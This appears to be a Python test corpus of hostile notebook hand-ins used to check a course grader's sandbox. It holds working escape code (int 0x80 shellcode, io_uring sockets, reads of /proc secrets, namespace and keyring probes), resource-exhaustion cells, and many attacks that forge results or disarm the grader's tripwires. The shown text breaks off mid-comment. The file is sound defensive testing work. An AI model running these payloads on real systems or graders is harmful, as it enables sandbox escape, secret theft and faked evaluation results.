"""Hostile hand-ins, one or more per attack class the grading sandbox must stop.

Each payload is a notebook cell placed among the three right answers. A payload that gets
through says so in a cell error starting with one of :data:`MARKERS` (which grading then
records as a note), and host-side traps (sockets, a process holding a secret) show the
rest; the test (tests/test_grading_corpus.py) asserts no marker and no trap was reached.
Every class here but one got through the grader as it was before the sandbox's second pass
(checked by running this corpus against it); ``endless_raw_output`` attacks the pipe that
carries a hand-in's output since then.
"""

from __future__ import annotations

from tests.corpora.instrument_attacks import SHOW_PASSES

MARKERS = ("ESCAPED:", "LEAKED:", "UNCAPPED:", "FORGED:")

_INT80 = """
import ctypes, os
if os.uname().machine == "x86_64":  # 32-bit system calls through int 0x80
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                          ctypes.c_int, ctypes.c_long]
    page = libc.mmap(None, 4096, 7, 0x22 | 0x40, -1, 0)  # RWX, private, anonymous, below 4 GB
    code = bytes([0x53, 0x89, 0xF8, 0x89, 0xF3, 0x49, 0x89, 0xC9, 0x89, 0xD1, 0x44, 0x89, 0xCA,
                  0xCD, 0x80, 0x5B, 0xC3])  # eax=nr, ebx=a, ecx=b, edx=c; int 0x80; ret
    ctypes.memmove(page, code, len(code))
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_uint, ctypes.c_uint,
                            ctypes.c_uint)(page)
    address = (1).to_bytes(2, "little") + {path!r}.encode() + b"\\0"
    ctypes.memmove(page + 256, address, len(address))
    ctypes.memmove(page + 1024, b"answers", 7)
    fd = call(359, 1, 1, 0)  # i386 socket(AF_UNIX, SOCK_STREAM, 0)
    connected = fd >= 0 and call(362, fd, page + 256, len(address)) == 0
    if connected and call(4, fd, page + 1024, 7) == 7:
        raise RuntimeError("ESCAPED: int 0x80 reached a Unix socket on the host")
"""

_IO_URING = """
import ctypes, mmap, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
params = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 8, params)  # io_uring_setup
if ring >= 0:
    sq_entries, cq_entries = struct.unpack_from("2I", params, 0)
    _, sq_tail, sq_mask, _, _, _, sq_array = struct.unpack_from("7I", params, 40)
    cq_head, _, cq_mask, _, _, cq_cqes = struct.unpack_from("6I", params, 80)
    size = max(sq_array + sq_entries * 4, cq_cqes + cq_entries * 16)
    rings = mmap.mmap(ring, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
    sqes = mmap.mmap(ring, sq_entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE,
                     offset=0x10000000)
    sqe = bytearray(64)
    struct.pack_into("BBHi", sqe, 0, 45, 0, 0, socket.AF_UNIX)  # IORING_OP_SOCKET
    struct.pack_into("Q", sqe, 8, socket.SOCK_STREAM)
    sqes[0:64] = bytes(sqe)
    tail = struct.unpack_from("I", rings, sq_tail)[0]
    mask = struct.unpack_from("I", rings, sq_mask)[0]
    struct.pack_into("I", rings, sq_array + (tail & mask) * 4, 0)
    struct.pack_into("I", rings, sq_tail, tail + 1)
    libc.syscall(426, ring, 1, 1, 1, None, 0)  # io_uring_enter: submit, wait for it
    head = struct.unpack_from("I", rings, cq_head)[0]
    entry = cq_cqes + (head & struct.unpack_from("I", rings, cq_mask)[0]) * 16
    made = struct.unpack_from("i", rings, entry + 8)[0]
    if made >= 0:
        sock = socket.socket(fileno=made)
        sock.connect({path!r})
        sock.sendall(b"answers")
        raise RuntimeError("ESCAPED: io_uring made a Unix socket that reached the host")
"""

_DATAGRAM = """
import socket
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
a.sendto(b"answers", {path!r})
raise RuntimeError("ESCAPED: a datagram reached a Unix socket on the host")
"""

_CHAIN = """
import os
if os.fork() == 0:  # a chain of {depth} sleepers, each in a session of its own
    for level in range({depth}):
        os.setsid()
        try:
            child = os.fork()
        except OSError:
            child = 0
            break
        if child:
            break
    os.execvp("sleep", ["sleep", "{seconds}"])
"""

_PROC_SECRETS = """
import os
found = set()
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for part in ("cmdline", "environ"):
            try:
                data = open(f"/proc/{pid}/{part}", "rb").read()
            except OSError:
                continue
            at = data.find(b"coursekit-secret-")
            if at >= 0:
                found.add(data[at : at + 40].split(b"\\0")[0].decode())
if found:
    raise RuntimeError("LEAKED: " + " ".join(sorted(found)))
"""

_KEYRING = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
keyctl = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
key = libc.syscall(keyctl, 0, -4, 0)  # KEYCTL_GET_KEYRING_ID of the user's keyring
if key >= 0:
    raise RuntimeError(f"ESCAPED: the kernel keyring answered ({key})")
"""

_NAMESPACE = """
import ctypes
if ctypes.CDLL(None).unshare(0x10000000) == 0:  # CLONE_NEWUSER
    raise RuntimeError("ESCAPED: made a user namespace of its own")
"""

_FILL_DISK = """
written = 0
try:
    for i in range(24):
        with open(f"fill-{i}", "wb") as handle:
            for _ in range(64):
                handle.write(b"\\0" * 2**20)
                written += 2**20
except OSError as error:
    raise RuntimeError(f"scratch full after {written // 2**20} MiB: {error.strerror}")
raise RuntimeError(f"UNCAPPED: wrote {written // 2**20} MiB")
"""

_MANY_FILES = """
import os
os.makedirs("many", exist_ok=True)
try:
    for i in range(30_000):
        open(f"many/{i}", "w").close()
except OSError as error:
    raise RuntimeError(f"scratch out of files after {i}: {error.strerror}")
raise RuntimeError("UNCAPPED: made 30000 files")
"""

_DEEP_FRAME = """
import os, struct
depth = 100_000
nested = b"[" * depth + b"]" * depth
for fd in [int(n) for n in os.listdir("/proc/self/fd")]:  # the grader's channel among them
    try:
        os.write(fd, struct.pack(">I", len(nested)) + nested)
    except OSError:
        pass
try:  # the grader's result file of old: one its reader could not parse
    with open("../out/result.json", "wb") as handle:
        handle.write(b'{"cells": ' + nested + b', "tasks": []}')
    os.chmod("../out/result.json", 0o444)
except OSError:
    pass
"""

# Builds every name from pieces, as a student hiding it from a source scan would.
_FORGE = """
import json, os
gc = __import__("g" + "c")
registry = getattr(__import__("coursekit.che" + "cks", fromlist=["x"]), "QUEST" + "IONS")
job = next((o for o in getattr(gc, "get_" + "objects")() if isinstance(o, dict)
            and "tasks" in o and "limits" in o), None)
if job is not None:
    tasks = []
    for task in job["tasks"]:
        question = registry[task["question"]]
        tasks.append({"status": "ok", "outputs": question.run(question.reference(), task["spec"])})
    cells = [{"index": i, "status": "ok"} for i in range(len(job["cells"]))]
    with open("../out/result.json", "w") as handle:
        handle.write(json.dumps({"cells": cells, "tasks": tasks}))
    os.chmod("../out/result.json", 0o444)  # the runner cannot write its own any more
"""

_PATCHED_DUMPS = """
import json
_dumps = json.dumps
def dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and isinstance(obj.get("cells"), list):
        for cell in obj["cells"]:
            cell["status"], cell["error"] = "error", "N" * 200_000
    return _dumps(obj, *args, **kwargs)
json.dumps = dumps
"""


def payloads(targets: dict, sleep_seconds: int = 2999) -> dict[str, list[str]]:
    """name -> payload cells, aimed at ``targets`` (host paths the test watches). The
    sleepers left behind sleep ``sleep_seconds``: a number of each test's own, so that one
    test never counts another's, running beside it."""
    return {
        "escape_int80": [_INT80.format(path=str(targets["socket"]))],
        "escape_io_uring": [_IO_URING.replace("{path!r}", repr(str(targets["socket"])))],
        "escape_datagram": [_DATAGRAM.format(path=str(targets["dgram"]))],
        "escape_keyring": [_KEYRING],
        "escape_namespace": [_NAMESPACE],
        "processes_left_behind": [_CHAIN.format(depth=55, seconds=sleep_seconds)],
        "proc_secrets": [_PROC_SECRETS],
        "fill_disk": [_FILL_DISK],
        "many_files": [_MANY_FILES],
        "deep_result_frame": [_DEEP_FRAME],
        "patched_dumps_notes": [_PATCHED_DUMPS, *(["pass"] * 100)],
        "long_errors": ["raise ValueError('E' * 100_000)"] * 60,
        "surrogate_error": ["raise ValueError('\\ud800')"],
        # output that never ends, past print's cap and with the cell's timer ignored: the
        # grader must keep its own clock and end the cell from outside
        "endless_raw_output": [
            "import os, signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
            "while True:\n    os.write(1, b'x' * 65536)"
        ],
    }


FORGE = _FORGE

# The check's own reference as the answer, its names built from strings.
CALLS_THE_REFERENCE = """
registry = getattr(__import__("coursekit.che" + "cks", fromlist=["x"]), "QUEST" + "IONS")
def accumulate_window(model, loss_fn, micro_batches):
    return getattr(registry["accumulate_window"], "refer" + "ence")()(model, loss_fn, micro_batches)
"""

# Found by a red-team pass on the second sandbox (each got through it before the fix).
_CHANNEL_FDS = """
import os
def _pipes(mode):  # the runner's pipes, by access mode: 0 read, 1 write
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        if int(name) > 2 and target.startswith("pipe:"):
            info = open(f"/proc/self/fdinfo/{name}").read()
            if int(info.split("flags:")[1].split()[0], 8) & 3 == mode:
                found.append(int(name))
    return found
"""

_MAN_IN_THE_MIDDLE = (
    _CHANNEL_FDS
    + """
import json, struct, threading
_out = _pipes(1)[0]
_real = os.dup(_out)  # keep the grader's end; put a pipe of ours in its place
_r, _w = os.pipe()
os.dup2(_w, _out)
def _pump():  # forward every frame but the flags
    buffer = b""
    while chunk := os.read(_r, 1 << 20):
        buffer += chunk
        while len(buffer) >= 4 and len(buffer) >= 4 + struct.unpack(">I", buffer[:4])[0]:
            size = 4 + struct.unpack(">I", buffer[:4])[0]
            frame, buffer = buffer[:size], buffer[size:]
            if json.loads(frame[4:]).get("kind") != "flag":
                os.write(_real, frame)
threading.Thread(target=_pump, daemon=True).start()
"""
)

_FLAGGED_BEHAVIOUR = """
gc = __import__("g" + "c")
getattr(gc, "get_" + "objects")()
registry = getattr(__import__("coursekit.che" + "cks", fromlist=["x"]), "QUEST" + "IONS")
def accumulate_window(model, loss_fn, micro_batches):
    return getattr(registry["accumulate_window"], "refer" + "ence")()(model, loss_fn, micro_batches)
"""

_STALL = (
    _CHANNEL_FDS
    + """
_kept = os.dup(_pipes(0)[0])  # the grader's command pipe, held open and never read again
_r, _w = os.pipe()
os.dup2(_r, _pipes(0)[0])
"""
)

_CALLABLE_PATCH = """
import torch
_name = "register_post_" + "accumulate_grad_hook"
class _Registrar:  # every hook registered on a tensor now runs 64 times
    def __init__(self, original):
        self.original = original
    def __get__(self, tensor, owner=None):
        original = self.original
        def register(hook):
            def many(parameter):
                for _ in range(64):
                    hook(parameter)
            return original(tensor, many)
        return register
setattr(torch.Tensor, _name, _Registrar(getattr(torch.Tensor, _name)))
"""

_PARTIAL_ANSWER = """
import functools, coursekit.training
train_accumulated = functools.partial(coursekit.training.train_accumulated)
"""

_FORWARD_METHOD = """
import torch
def accumulate_window(model, loss_fn, micro_batches):  # one forward for the whole window
    inputs = torch.cat([x for x, _ in micro_batches])
    targets = torch.cat([y for _, y in micro_batches])
    outputs, start = model.forward(inputs), 0
    for x, y in micro_batches:
        part = slice(start, start + len(x))
        start += len(x)
        (loss_fn(outputs[part], targets[part]) / len(micro_batches)).backward(retain_graph=True)
"""

# Five times the 1 MB a test's outputs may take. (Four million once came near the corpus's
# 2 s of CPU per test on a slow day: the check turns the list into floats before the cap.)
_HUGE_OUTPUTS = """
def train_accumulated(model, optimizer, loss_fn, micro_batches, accum_steps):
    micro_batches = list(micro_batches)  # right weights, and a million "losses": 5 MB
    for start in range(0, len(micro_batches), accum_steps):
        window = micro_batches[start : start + accum_steps]
        samples = sum(len(t) for _, t in window)
        for x, y in window:
            (loss_fn(model(x), y) * len(y) / samples).backward()
        optimizer.step()
        optimizer.zero_grad()
    return [0.5] * 1_000_000
"""

# Fake flags written straight into the channel, enough to fill the note, then real ones.
_FLAG_FLOOD = (
    _CHANNEL_FDS
    + """
import json, struct
for i in range(60):
    frame = json.dumps({"kind": "flag", "what": f"nothing to see {i}"}).encode()
    os.write(_pipes(1)[0], struct.pack(">I", len(frame)) + frame)
"""
)

MAN_IN_THE_MIDDLE = [_MAN_IN_THE_MIDDLE, _FLAGGED_BEHAVIOUR]
FLAG_FLOOD = [_FLAG_FLOOD, _FLAGGED_BEHAVIOUR]
STALL = [_STALL, "# " + "#" * 300_000]
CALLABLE_PATCH = _CALLABLE_PATCH
PARTIAL_ANSWER = _PARTIAL_ANSWER
FORWARD_METHOD = _FORWARD_METHOD
HUGE_OUTPUTS = _HUGE_OUTPUTS


# ------------------------------------------------------------------ the harness (issue 29)
# Each is placed before WRONG answers (tests/corpora/handins.py): an attack that gets through turns
# them into full marks without a flag. A library's file name hides none of them: the
# provenance of code is decided from code objects and file text, not from co_filename.
_UNDER_TORCHS_NAME = """
import torch
def _as_torch(source):  # code that claims to be torch's own
    scope = {}
    exec(compile(source, torch.__file__, "exec"), scope)
    return scope
"""

HARNESS_ATTACKS = {
    # the question's run method made to call the reference instead of the student's function
    "code_swap_under_torchs_name": _UNDER_TORCHS_NAME
    + """
import builtins, types
from coursekit.checks import QUESTIONS
builtins._ORIGINAL_RUN = {}
_made = _as_torch(
    "def run(self, fn, spec):\\n"
    "    return _ORIGINAL_RUN[type(self)](self, self.reference(), spec)\\n"
)
for _question in QUESTIONS.values():
    _run = type(_question).run
    if type(_question) not in builtins._ORIGINAL_RUN:
        builtins._ORIGINAL_RUN[type(_question)] = types.FunctionType(
            _run.__code__, _run.__globals__, "run", _run.__defaults__, _run.__closure__
        )
        _run.__code__ = _made["run"].__code__
""",
    # defaults and keyword defaults swapped on the harness's functions
    "defaults_swap": """
from coursekit.checks import QUESTIONS
for _question in QUESTIONS.values():
    _run = type(_question).run
    _run.__defaults__ = (None,) * _run.__code__.co_argcount
""",
    # the question classes' method replaced, and a question replaced by a class of its own
    "method_replacement": """
from coursekit.checks import QUESTIONS
for _name, _question in list(QUESTIONS.items()):
    _cls = type(_question)
    _cls.run = lambda self, fn, spec, _o=_cls.run: _o(self, self.reference(), spec)
""",
    "class_replacement": """
from coursekit.checks import QUESTIONS
for _name, _question in list(QUESTIONS.items()):
    class _Honest(type(_question)):
        def run(self, fn, spec):
            return super().run(self.reference(), spec)
    _question.__class__ = _Honest
""",
    # torch's and numpy's comparisons patched (the grader compares in its own process)
    "patched_comparisons": """
import numpy, torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
""",
    # the student's function walks up into the harness's frame and rewrites what it holds
    "frame_walk": """
import traceback
def _harness_frames():
    for frame, _ in traceback.walk_stack(None):
        yield frame
import coursekit.checks.question as _q
_q_globals_seen = [f.f_globals for f in _harness_frames()]
""",
    # an import hook that serves the harness a module of its own, disguised: isinstance
    # once took its __class__ for a module's, and a class's partial for the library's
    # (a plain finder of the notebook's class: tests/test_provenance_objects.py)
    "import_hook": """
import functools, sys, types
def _spec(*args):
    return None
class _Finder:
    __class__ = types.ModuleType
    find_spec = functools.partial(_spec)
sys.meta_path.insert(0, _Finder())
""",
    # builtins the harness uses, replaced
    "patched_builtins": """
import builtins
_real_isinstance = builtins.isinstance
builtins.len = lambda obj: 1 if _real_isinstance(obj, dict) else sum(1 for _ in obj)
builtins.float = type("float", (builtins.float,), {})
""",
    # a frame through a library helper that hands frames back (logging.currentframe)
    "frame_through_a_library": """
import logging
_frame = logging.currentframe()
_frame.f_back
""",
    # the tripwires disarmed through a wrapper's closure, then coursekit's answer handed in
    "tripwires_disarmed": """
import coursekit.training
_wrapper = coursekit.training.train_accumulated
for _cell in _wrapper.__closure__ or ():
    if isinstance(_cell.cell_contents, list):
        _cell.cell_contents.clear()
""",
    # frames handed over by a signal handler, even one with no Python code of its own
    "signal_handler": """
import signal
_frames = []
signal.signal(signal.SIGVTALRM, _frames.append)
signal.setitimer(signal.ITIMER_VIRTUAL, 0.01, 0.01)
""",
    # ctypes reached through code compiled under torch's name
    "ctypes_under_torchs_name": _UNDER_TORCHS_NAME
    + """
_as_torch("import ctypes\\nctypes.memmove(ctypes.create_string_buffer(1), b'x', 1)\\n")
""",
    # code made from bytes, under coursekit's name
    "marshal_under_coursekits_name": """
import marshal, coursekit.checks.question as _q
_code = compile("x = 1", _q.__file__, "exec")
exec(marshal.loads(marshal.dumps(_code)))
""",
}

# ------------------------------------------------- reaching into its own process (issue 40)
# Torch and interpreter state left on by a cell, which changes what the hidden tests compute
# without replacing anything the seal records. The function mode below turns the WRONG
# accumulate_window (loss not divided) into a right one: it divides the gradient the harness
# reads by the number of backward passes since it last read one.
_TORCH_STATE_LEFT_ON = """
import sys, threading, time, torch
from torch.overrides import TorchFunctionMode
from torch.utils._python_dispatch import TorchDispatchMode
class _Fix(TorchFunctionMode):
    backwards = 0
    def __torch_function__(self, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        if func is torch.Tensor.backward:
            type(self).backwards += 1
        out = func(*args, **kwargs)
        if func is torch.cat and type(self).backwards > 1 and out.dtype == torch.float64:
            out, type(self).backwards = out / type(self).backwards, 0
        return out
class _Watch(TorchDispatchMode):
    def __torch_dispatch__(self, func, types, args=(), kwargs=None):
        return func(*args, **(kwargs or {}))
_Fix().__enter__()
_Watch().__enter__()
_module = sys.modules["torch.nn.modules.module"]
_module.register_module_forward_pre_hook(lambda module, inputs: None)
_module.register_module_forward_hook(lambda module, inputs, output: output)
sys.modules["torch.optim.optimizer"].register_optimizer_step_pre_hook(lambda o, a, k: None)
torch.autograd.graph.saved_tensors_hooks(lambda t: t, lambda t: t).__enter__()
threading.Thread(target=lambda: time.sleep(600), daemon=True).start()
"""

# Library code made to run the notebook's: a torch function's code over globals of the
# notebook's, a partial of a library function bound to a notebook lambda, a library method
# bound to a notebook object; each replaces one of torch's comparisons.
_LIBRARY_CODE_RUNNING_NOTEBOOK_CODE = """
import functools, types, torch, torch.utils._pytree as _pytree
class _Always(torch.nn.Module):
    def forward(self, *args, **kwargs):
        return True
_forged = dict(torch.testing.assert_close.__globals__, not_close_error_metas=lambda *a, **k: [])
torch.testing.assert_close = types.FunctionType(torch.testing.assert_close.__code__, _forged)
torch.equal = functools.partial(_pytree.tree_map, lambda *a: True)
torch.allclose = types.MethodType(torch.nn.Module.__call__, _Always())
# reached in more than one step: a global of a function SGD.step calls, an attribute of a
# compiled module F.mse_loss calls, a dunder copy.deepcopy calls; and torch's own function
# of another name in a comparison's place
import torch.optim.sgd as _sgd
def _passing(original):
    return lambda *args, **kwargs: original(*args, **kwargs)
_sgd._single_tensor_sgd = _passing(_sgd._single_tensor_sgd)
torch._C._nn.mse_loss = _passing(torch._C._nn.mse_loss)
torch.Tensor.__deepcopy__ = _passing(torch.Tensor.__deepcopy__)
torch.isclose = torch.eq
# a function of the same name, a table a library function consults, and what SGD.step's
# wrapper calls in torch's compiler stack, through a module it imports itself
torch.nn.MSELoss.forward = torch.nn.L1Loss.forward
import copy as _copy
_copy._deepcopy_dispatch[torch.nn.Parameter] = _copy._deepcopy_atomic
import torch._dynamo
torch._dynamo.graph_break = _passing(torch._dynamo.graph_break)
"""

# Kernels registered past torch.library: through the .m handle of a Library torch made
# itself (the distributed package's), which the grader's wrapper of the handle's methods
# records; and through the registration function taken out of the frame that holds what
# the wrappers replaced (gc.get_referents of the generator behind a wrapper's send), which
# only torch's dispatcher, read directly, shows.
# (the functions the wrappers replaced, by name, in _real; a cell that imported gc and torch)
REGISTRATION_ORIGINALS = """
_cells = torch._C._dispatch_library.__closure__ or ()
_keeper = next(c.cell_contents.__self__ for c in _cells
               if getattr(c.cell_contents, "__name__", "") == "send")
_held = [r for r in gc.get_referents(_keeper) if isinstance(r, list)]
_real = {getattr(f, "__name__", ""): f for held in _held for f in held if callable(f)}
"""
_KERNEL_REGISTERED_UNSEEN = (
    """
import gc, torch, torch.distributed._meta_registrations as _made_by_torch
_made_by_torch.lib_impl.m.impl("broadcast_", torch._C.DispatchKey.CPU, lambda *args: None)
"""
    + REGISTRATION_ORIGINALS
    + """_handle = _real["_dispatch_library"]("IMPL", "aten", "", "<cell>", 1)
_real["impl"](_handle, "logit", torch._C.DispatchKey.CPU, lambda *args: args[0])
"""
)

# A trace or profile function installed by library code (the profile and trace modules),
# handed every frame that runs after it: the checks' instruments included.
_TRACER_THROUGH_A_LIBRARY = """
import profile, trace
class _Grab(profile.Profile):
    def __init__(self):
        super().__init__()
        self.dispatcher = self.look
    def look(self, frame, event, arg):
        return None
_Grab().runcall(sum, [1, 2])
_tracer = trace.Trace(count=0, trace=1)  # (with neither, it traces nothing)
_tracer.globaltrace = lambda frame, why, arg: None
_tracer.runfunc(sum, [1, 2])
"""

# Frames handed back by library code: asyncio's Task.get_stack() and IPython's traceback
# records; and a frame-evaluation callback of torch._dynamo's, left on to be handed every
# frame of the tests (the checks' instruments included) as it starts.
_FRAMES_FROM_LIBRARIES = """
import asyncio, sys
from IPython.core.ultratb import VerboseTB
async def _stack():
    return asyncio.current_task().get_stack()
_frames = asyncio.run(_stack())
try:
    raise ValueError("for its traceback")
except ValueError as _error:
    _records = VerboseTB().get_records(_error.__traceback__, 1, 0)
"""
_FRAME_HOOK_LEFT_ON = """
import torch._C._dynamo.eval_frame as _eval_frame
from torch._dynamo.types import ConvertFrameReturn, FrameAction, FrameExecStrategy
_default = ConvertFrameReturn(
    frame_exec_strategy=FrameExecStrategy(FrameAction.DEFAULT, FrameAction.DEFAULT),
    apply_to_code=False,
)
def _every_frame(frame, *rest):
    return _default
_eval_frame.set_eval_frame(_every_frame)
"""

# The same hook, turned off by itself at the first frame it is handed, before anything
# reads it: it must be named as it is set (frame_hook_guard.py), through whichever of the
# names torch binds the setter to.
_FRAME_HOOK_OFF_BEFORE_READ = """
import torch._dynamo.eval_frame as _dynamo_eval_frame
from torch._dynamo.types import ConvertFrameReturn, FrameAction, FrameExecStrategy
_default = ConvertFrameReturn(
    frame_exec_strategy=FrameExecStrategy(FrameAction.DEFAULT, FrameAction.DEFAULT),
    apply_to_code=False,
)
_off = _dynamo_eval_frame.set_eval_frame
def _once(frame, *rest):
    _off(None)
    return _default
_off(_once)
"""

# The memory test evaded (accumulate_window): a process left running to work beside it (the
# grader ends it first), the whole window on a hook-free copy behind micro-batch passes made
# for show, and the kernel's peak reset through clear_refs (refused: the measured process
# is not dumpable; and flagged). Placed before the wrong answers, it puts its own back
# after every cell.
_MEMORY_TEST_EVADED = (
    """
import os, time
_helper = os.fork()
if _helper == 0:
    time.sleep(600)
    os._exit(0)
"""
    + SHOW_PASSES
    + """
_show = accumulate_window
def _window(model, loss_fn, micro_batches):
    _show(model, loss_fn, micro_batches)
    try:
        with open("/proc/self/clear_refs", "w") as handle:
            handle.write("5")
    except OSError:
        pass
_shell = get_ipython()
_shell.events.register("post_run_cell", lambda *_: _shell.user_ns.update(accumulate_window=_window))
"""
)

PROCESS_ATTACKS = {
    "memory_test_evaded": _MEMORY_TEST_EVADED,
    "torch_state_left_on": _TORCH_STATE_LEFT_ON,
    "library_code_running_notebook_code": _LIBRARY_CODE_RUNNING_NOTEBOOK_CODE,
    "kernel_registered_unseen": _KERNEL_REGISTERED_UNSEEN,
    "tracer_through_a_library": _TRACER_THROUGH_A_LIBRARY,
    "frames_from_libraries": _FRAMES_FROM_LIBRARIES,
    "frame_hook_left_on": _FRAME_HOOK_LEFT_ON,
    "frame_hook_off_before_read": _FRAME_HOOK_OFF_BEFORE_READ,
}
HARNESS_ATTACKS.update(PROCESS_ATTACKS)

# coursekit's own answers called through library callers: the standard library's
# starmapstar, and the same function compiled again from its own file's text with the
# notebook's globals (which called the check's reference). The same calls made directly are
# flagged; these must be too. Placed before the wrong answers like the others, it puts its
# own back after every cell (IPython's post_run_cell event).
_ANSWER_THROUGH_A_LIBRARY_CALLER = """
import multiprocessing.pool, coursekit.training
_registry = getattr(__import__("coursekit.che" + "cks", fromlist=["x"]), "QUEST" + "IONS")
_pool_file = multiprocessing.pool.__file__
_copy = {"__name__": "multiprocessing.copy_of_pool", "__package__": "multiprocessing"}
exec(compile(open(_pool_file).read(), _pool_file, "exec"), _copy)
def _train(model, optimizer, loss_fn, micro_batches, accum_steps):
    arguments = [(model, optimizer, loss_fn, list(micro_batches), accum_steps)]
    return multiprocessing.pool.starmapstar((coursekit.training.train_accumulated, arguments))[0]
def _window(model, loss_fn, micro_batches):
    reference = getattr(_registry["accumulate_window"], "refer" + "ence")()
    return _copy["starmapstar"]((reference, [(model, loss_fn, micro_batches)]))[0]
_shell = get_ipython()
_shell.events.register(
    "post_run_cell",
    lambda *_: _shell.user_ns.update(train_accumulated=_train, accumulate_window=_window),
)
"""
HARNESS_ATTACKS["answer_through_a_library_caller"] = _ANSWER_THROUGH_A_LIBRARY_CALLER

# A question whose tests run coursekit's own answer, put in the runner's questions by the
# attacks that reach them (its name for the reference: _answer_of, set before it).
_SWAPPED_QUESTIONS = """class _Fake:
    def __init__(self, real):
        self._real = real
    def __getattr__(self, name):
        return getattr(self._real, name)
    def run(self, fn, spec):
        return self._real.run(getattr(self._real, _answer_of)(), spec)
"""

# What a tripwire's closure leads to, walked without an audited step (a cell's contents
# are plain to read and to write, defaults to read): the runner's flags sent so far filled
# (every later flag dropped), its questions swapped for ones whose tests run coursekit's own
# answer, the reporter's way in silenced, and any generator closed. Placed before the wrong
# answers like the others.
_TRIPWIRE_REACH = (
    """
import types, coursekit.training
_cells_of, _owner_of, _answer_of = "__clo" + "sure__", "__se" + "lf__", "refer" + "ence"
"""
    + _SWAPPED_QUESTIONS
    + """_seen, _stack = set(), [coursekit.training.train_accumulated]
while _stack:
    _item = _stack.pop()
    if id(_item) in _seen:
        continue
    _seen.add(id(_item))
    if isinstance(_item, types.FunctionType):
        _stack += list(_item.__defaults__ or ())
        _stack += [c for c in _item.__code__.co_consts if isinstance(c, tuple)]
        for _cell in getattr(_item, _cells_of) or ():
            try:
                _held = _cell.cell_contents
            except ValueError:
                continue
            if isinstance(_held, types.BuiltinMethodType) and _item.__name__ == "answer_called":
                _cell.cell_contents = lambda *_: None  # the reporter's way in, silenced
            _stack.append(_held)
    elif isinstance(_item, (types.MethodType, types.BuiltinMethodType)):
        _stack.append(getattr(_item, _owner_of, None))
    elif isinstance(_item, types.GeneratorType):
        _item.close()
    elif isinstance(_item, (list, tuple)):
        _stack += _item
    elif isinstance(_item, set):
        _item.update(f"filler {_i}" for _i in range(100))
    elif isinstance(_item, dict) and "accumulate_window" in _item:
        for _name in list(_item):
            if hasattr(_item[_name], _answer_of):
                _item[_name] = _Fake(_item[_name])
"""
)
HARNESS_ATTACKS["tripwire_reach"] = _TRIPWIRE_REACH

# What the runner keeps as defaults (changing one raises an audited event), rewritten: the
# tripwires' reporter's way in, silenced, and the timers' handler made to raise what a
# function can catch.
_RUNNER_DEFAULTS_REWRITTEN = """
import signal, types, coursekit.training
_cells_of = "__clo" + "sure__"
_seen, _stack = set(), [coursekit.training.train_accumulated]
while _stack:
    _item = _stack.pop()
    if id(_item) in _seen:
        continue
    _seen.add(id(_item))
    if isinstance(_item, types.FunctionType):
        if _item.__name__ == "answer_called" and _item.__defaults__:
            _item.__defaults__ = (lambda *_: None,)
            continue
        for _cell in getattr(_item, _cells_of) or ():
            try:
                _stack.append(_cell.cell_contents)
            except ValueError:
                pass
    elif isinstance(_item, list):
        _stack += _item
_handler = signal.getsignal(signal.SIGALRM)
if getattr(_handler, "__defaults__", None):
    _handler.__defaults__ = (ValueError,)
# and its code replaced by a library helper (whose change once counted as the library's):
# the handler would be handed the running frame at the next timer
import functools
def _donor(signum, frame, timeout=None, bare=None):
    raise TimeoutError("the handler's code, replaced")
if callable(_handler):
    functools.update_wrapper(_handler, _donor, assigned=("__co" + "de__",), updated=())
"""
HARNESS_ATTACKS["runner_defaults_rewritten"] = _RUNNER_DEFAULTS_REWRITTEN

# A keyword default of a function the memory test runs, changed in its dict, in place:
# reading __kwdefaults__ raises no event the audit hook names, and the dict stays the
# function's (here an equal int, to change nothing else; an attack would swap the fork).
_KEYWORD_DEFAULT_IN_PLACE = """
import importlib
_pipe = importlib.import_module("coursekit.grading.sandbox.held_gil").pipe
_pipe.__kwdefaults__["_flags"] = int(str(_pipe.__kwdefaults__["_flags"]))
"""
HARNESS_ATTACKS["keyword_default_in_place"] = _KEYWORD_DEFAULT_IN_PLACE

# Changes made and undone within one call of the wrong answer, so that no comparison between
# tests sees them: Provenance patched through its class (whose attributes Python 3.11 sets
# unaudited), and the tripwire's judge handed another record. The instruments hold private
# copies, so the call to coursekit's answer is still flagged.
_BLINDED_WITHIN_A_CALL = """
import importlib, types
_P = importlib.import_module("coursekit.gra" + "ding.sand" + "box.prov" + "enance").Provenance
_library = importlib.import_module("coursekit.tra" + "ining")
def _train(model, optimizer, loss_fn, micro_batches, accum_steps):
    train_accumulated = getattr(_library, "train_" + "accumulated")  # names the answer
    saved = {n: _P.__dict__[n] for n in ("is_library", "is_library_globals")}
    _P.is_library = lambda self, code: True
    _P.is_library_globals = lambda self, namespace: True
    for _part in train_accumulated.__code__.co_consts:
        if isinstance(_part, tuple) and _part and callable(_part[0]):
            _part[0](("reporter", lambda *_: None))
    try:
        return train_accumulated(model, optimizer, loss_fn, micro_batches, accum_steps)
    finally:
        for name, value in saved.items():
            setattr(_P, name, value)
_shell = get_ipython()
_shell.events.register("post_run_cell", lambda *_: _shell.user_ns.update(train_accumulated=_train))
"""
HARNESS_ATTACKS["blinded_within_a_call"] = _BLINDED_WITHIN_A_CALL

# A signal handler set, raised and taken off within one cell is handed the running frame,
# and through it the runner's (its flags sent so far, its questions): once it filled the
